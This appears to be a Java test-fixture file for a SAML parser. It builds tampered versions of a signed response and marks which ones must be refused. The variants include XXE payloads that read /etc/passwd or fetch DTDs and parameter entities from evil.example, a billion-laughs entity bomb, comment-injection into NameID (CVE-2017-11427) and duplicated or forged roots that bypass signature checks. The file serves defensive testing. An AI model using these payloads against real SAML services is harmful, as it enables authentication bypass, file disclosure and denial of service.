// SPDX-License-Identifier: Apache-2.0
package io.relyra.test.forge;

import static io.relyra.test.forge.Rearrangement.harmless;
import static io.relyra.test.forge.Rearrangement.refused;

import java.util.List;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/** Documents that two parsers read in two ways, or that none should read to the end. */
final class ParserAttacks {
  private static final Pattern NAME = Pattern.compile("(<[\\w]*:?NameID[^>]*>)([^<]*)(<)");
  private static final Pattern VALUE = Pattern.compile("(<[\\w]*:?AttributeValue[^>]*>)([^<]*)(<)");

  private ParserAttacks() {}

  static List<Rearrangement> all() {
    return List.of(
        refused(
            "comment-after-intruder",
            "A comment separates an intruder from the name (CVE-2017-11427).",
            xml -> inside(NAME, xml, Forge.INTRUDER + "<!---->", "")),
        harmless(
            "comment-in-name",
            "A comment splits the name, of which a careless reader takes a part.",
            xml -> split(NAME, xml, "<!-- -->")),
        harmless(
            "comment-in-attribute",
            "A comment splits an attribute.",
            xml -> split(VALUE, xml, "<!-- -->")),
        refused(
            "instruction-in-name",
            "A processing instruction splits the name.",
            xml -> split(NAME, xml, "<?x y?>")),
        harmless(
            "cdata-in-name",
            "A part of the name is a CDATA section, which means the same.",
            xml -> split(NAME, xml, "<![CDATA[]]>")),
        refused(
            "cdata-intruder",
            "A CDATA section puts an intruder before the name.",
            xml -> inside(NAME, xml, "<![CDATA[" + Forge.INTRUDER + "]]>", "")),
        harmless("comment-outside", "A comment precedes the response.", xml -> "<!-- -->" + xml),
        harmless(
            "instruction-outside",
            "A processing instruction precedes the response.",
            xml -> "<?xml-stylesheet href=\"https://evil.example/\"?>" + xml),
        refused("two-roots", "The response occurs twice (CVE-2022-39353).", xml -> xml + xml),
        refused(
            "forged-root-first",
            "A forged response precedes the signed one.",
            xml -> xml.replaceAll("<ds:Signature .*?</ds:Signature>", "") + xml),
        refused("text-after-the-root", "Text follows the response.", xml -> xml + "x"),
        refused("text-before-the-root", "Text precedes the response.", xml -> "x" + xml),
        refused("truncated", "The end is missing.", xml -> xml.substring(0, xml.length() - 9)),
        refused("doctype", "There is a DOCTYPE.", xml -> "<!DOCTYPE x>" + xml),
        refused(
            "entity-name",
            "The name is an entity of the document.",
            xml ->
                "<!DOCTYPE x [<!ENTITY e \""
                    + Forge.INTRUDER
                    + "\">]>"
                    + inside(NAME, xml, "&e;", "")),
        refused(
            "external-entity",
            "The name is a file of the service provider.",
            xml ->
                "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
                    + inside(NAME, xml, "&e;", "")),
        refused(
            "external-dtd",
            "A document type is fetched from the attacker.",
            xml -> "<!DOCTYPE x SYSTEM \"https://evil.example/x.dtd\">" + xml),
        refused(
            "parameter-entity",
            "A parameter entity is fetched from the attacker.",
            xml -> "<!DOCTYPE x [<!ENTITY % p SYSTEM \"https://evil.example/p\">%p;]>" + xml),
        refused(
            "default-attribute",
            "A document type adds an attribute to the assertion.",
            xml -> "<!DOCTYPE x [<!ATTLIST saml:Assertion ID2 CDATA \"_x\">]>" + xml),
        refused("entity-bomb", "Entities expand to gigabytes.", xml -> bomb() + xml),
        refused(
            "undeclared-entity",
            "The name is an entity that nobody declared.",
            xml -> inside(NAME, xml, "&nbsp;", "")),
        refused(
            "deep",
            "Elements are nested 1 000 deep.",
            xml -> end(xml, "<x>".repeat(1_000) + "</x>".repeat(1_000))),
        refused(
            "many-elements",
            "There are 200 000 elements.",
            xml -> end(xml, "<x/>".repeat(200_000))),
        refused(
            "many-attributes",
            "An element has 10 000 attributes.",
            xml -> end(xml, "<x" + attributes(10_000) + "/>")),
        refused(
            "another-encoding",
            "The declaration names an encoding in which the octets mean something else.",
            xml -> "<?xml version=\"1.0\" encoding=\"UTF-7\"?>" + xml),
        refused(
            "xml-1.1",
            "The document is XML 1.1, which knows more white space and characters.",
            xml -> "<?xml version=\"1.1\"?>" + xml));
  }

  private static String inside(Pattern place, String xml, String before, String after) {
    Matcher matcher = matcher(place, xml);
    return xml.substring(0, matcher.start(2))
        + before
        + matcher.group(2)
        + after
        + xml.substring(matcher.end(2));
  }

  private static String split(Pattern place, String xml, String wedge) {
    Matcher matcher = matcher(place, xml);
    int middle = (matcher.start(2) + matcher.end(2)) / 2;
    return xml.substring(0, middle) + wedge + xml.substring(middle);
  }

  private static Matcher matcher(Pattern place, String xml) {
    Matcher matcher = place.matcher(xml);
    if (!matcher.find()) {
      throw new IllegalArgumentException("there is no such text");
    }
    return matcher;
  }

  private static String end(String xml, String content) {
    int end = xml.lastIndexOf("</");
    if (end < 0) {
      throw new IllegalArgumentException("there is no end");
    }
    return xml.substring(0, end) + content + xml.substring(end);
  }

  private static String attributes(int count) {
    StringBuilder out = new StringBuilder();
    for (int i = 0; i < count; i++) {
      out.append(" a").append(i).append("=\"\"");
    }
    return out.toString();
  }

  private static String bomb() {
    StringBuilder out = new StringBuilder("<!DOCTYPE x [<!ENTITY e0 \"ha\">");
    for (int i = 1; i <= 30; i++) {
      out.append("<!ENTITY e%d \"&e%d;&e%d;\">".formatted(i, i - 1, i - 1));
    }
    return out.append("]>").toString();
  }
}
